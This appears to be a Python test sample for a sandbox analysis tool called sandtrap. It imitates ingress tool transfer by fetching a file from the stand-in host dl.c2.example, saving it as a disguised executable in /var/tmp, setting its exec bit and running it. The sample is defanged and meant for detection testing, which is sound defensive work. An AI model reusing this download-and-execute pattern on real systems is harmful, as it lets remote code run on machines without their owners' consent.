#!/usr/bin/python3
# Ingress tool transfer: urllib downloads a payload into /var/tmp, chmods it 0755 and executes it.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import os, subprocess, urllib.request

path = "/var/tmp/.dbus-update"
import http.client

try:
    with urllib.request.urlopen("http://dl.c2.example/payload.elf", timeout=3) as r:
        body = r.read()
except http.client.IncompleteRead as short:
    body = short.partial
with open(path, "wb") as f:
    f.write(b"#!/bin/sh\necho payload-running\n" + b"# " + body[:64].replace(b"\n", b" ") + b"\n")
os.chmod(path, 0o755)
print(subprocess.run([path], capture_output=True, text=True).stdout)
